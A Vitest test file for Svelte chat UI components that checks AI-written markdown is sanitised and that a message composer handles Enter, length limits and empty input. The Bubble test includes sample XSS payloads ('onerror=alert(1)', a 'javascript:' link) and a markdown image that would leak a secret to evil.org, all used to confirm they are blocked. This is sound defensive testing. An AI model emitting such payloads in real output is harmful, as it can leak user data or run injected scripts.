import { cleanup, fireEvent, render, screen } from '@testing-library/svelte';
import { afterEach, describe, expect, it, vi } from 'vitest';
import Bubble from '../../src/ui/Bubble.svelte';
import Composer from '../../src/ui/Composer.svelte';
import Markdown from '../../src/ui/Markdown.svelte';

afterEach(cleanup);

describe('Markdown', () => {
  it('makes elements, and text of everything else', () => {
    const text = '<b>x</b> **a**b, *c*. [L](https://h.org/) [E](https://evil.org/)\n- one\n- two';
    const { container } = render(Markdown, { text, rich: true, hosts: ['h.org'] });
    expect(container.querySelector('b')).toBeNull();
    expect(container.querySelector('p')?.textContent).toBe(
      '<b>x</b> ab, c. L E (https://evil.org/)',
    );
    expect(container.querySelectorAll('a')).toHaveLength(1);
    expect(container.querySelector('a')?.rel).toContain('noopener');
    expect(container.querySelectorAll('li')).toHaveLength(2);
  });
});

describe('Bubble', () => {
  it('shows what the AI says without images, HTML and strange links', () => {
    const text =
      '![x](https://evil.org/a.png?q=secret) <img src=x onerror=alert(1)> <a href="https://evil.org">y</a> ' +
      '[z](javascript:alert(1)) https://evil.org/w [ok](https://h.org/)';
    const { container } = render(Bubble, { kind: 'ai', mine: false, text, hosts: ['h.org'] });
    expect(container.querySelector('img, script, iframe, object')).toBeNull();
    const links = [...container.querySelectorAll('a')].map((link) => link.href);
    expect(links).toEqual(['https://h.org/']);
    expect(container.textContent).toContain('https://evil.org/a.png?q=secret');
  });

  it('tells readers to wait while the AI writes', () => {
    const props = { kind: 'ai' as const, mine: false, text: 'Hello', streaming: true };
    const { container } = render(Bubble, props);
    expect(container.querySelector('[aria-busy=true]')?.textContent).toContain('Hello');
    expect(container.querySelector('.bubble')?.getAttribute('dir')).toBe('auto');
  });
});

describe('Composer', () => {
  const setup = () => {
    const onsend = vi.fn();
    const left = (room: number) => `${room} left`;
    const words = { label: 'Message', placeholder: '', sendLabel: 'Send' };
    render(Composer, { text: '', limit: 30, left, onsend, ...words });
    const box = screen.getByLabelText<HTMLTextAreaElement>('Message');
    return { onsend, box };
  };

  it('sends on Enter, not on Shift+Enter nor while a word is being composed', async () => {
    const { onsend, box } = setup();
    await fireEvent.input(box, { target: { value: '  hello ' } });
    await fireEvent.keyDown(box, { key: 'Enter', shiftKey: true });
    await fireEvent.keyDown(box, { key: 'Enter', isComposing: true });
    expect(onsend).not.toHaveBeenCalled();
    await fireEvent.keyDown(box, { key: 'Enter' });
    expect(onsend).toHaveBeenCalledExactlyOnceWith('hello');
    expect(box.value).toBe('');
  });

  it('sends nothing empty or too long, and says how much room is left', async () => {
    const { onsend, box } = setup();
    await fireEvent.input(box, { target: { value: '   ' } });
    await fireEvent.keyDown(box, { key: 'Enter' });
    await fireEvent.input(box, { target: { value: 'x'.repeat(31) } });
    await fireEvent.keyDown(box, { key: 'Enter' });
    expect(onsend).not.toHaveBeenCalled();
    expect(screen.getByText('-1 left')).toBeTruthy();
    expect(box.getAttribute('aria-invalid')).toBe('true');
  });
});
